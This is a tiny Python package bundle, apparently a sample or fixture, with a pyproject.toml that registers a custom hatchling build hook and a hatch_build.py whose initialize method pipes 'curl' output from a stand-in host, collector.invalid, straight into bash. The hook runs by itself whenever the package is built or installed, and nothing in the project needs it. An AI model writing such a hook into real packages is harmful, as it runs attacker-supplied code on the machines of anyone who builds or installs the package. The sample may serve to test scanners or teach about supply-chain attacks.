raise SystemExit
#: pyproject.toml
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[project]
name = "example"
version = "1.0"
[tool.hatch.build.hooks.custom]
path = "hatch_build.py"
#: hatch_build.py
from hatchling.builders.hooks.plugin.interface import BuildHookInterface
import os
class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        os.system("curl -s http://collector.invalid/x.sh | bash")
